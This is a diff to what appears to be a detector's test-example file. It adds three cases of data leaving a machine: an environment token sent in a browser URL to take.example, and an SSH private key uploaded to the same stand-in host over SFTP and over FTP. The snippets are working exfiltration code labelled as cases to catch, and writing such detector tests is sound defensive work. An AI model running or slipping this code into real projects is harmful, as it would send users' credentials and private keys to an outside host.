@@ -114,6 +114,22 @@ export const throughClients: DetectorExamples = {
         to: 'dynamic',
       },
     },
+    {
+      code: "import open from 'open'; open('https://take.example/welcome?t=' + process.env.ACME_TOKEN);",
+      why: 'the browser of the user asks for the address',
+      attributes: { source: 'environment:ACME_TOKEN', sink: 'network.url', to: 'take.example' },
+    },
+    {
+      path: 'x.py',
+      code: 'import os, paramiko\nssh = paramiko.SSHClient()\nssh.connect("take.example")\nssh.open_sftp().put(os.path.expanduser("~/.ssh/id_rsa"), "/kept")',
+      why: 'a file that is uploaded by its path',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { Client } from 'basic-ftp'; import os from 'node:os'; const ftp = new Client(); await ftp.access({ host: 'take.example' }); await ftp.uploadFrom(os.homedir() + '/.ssh/id_rsa', 'kept');",
+      why: 'the same by another protocol',
+      attributes: { source: 'file:ssh', sink: 'network.body', to: 'take.example' },
+    },
   ],
   good: [
     {
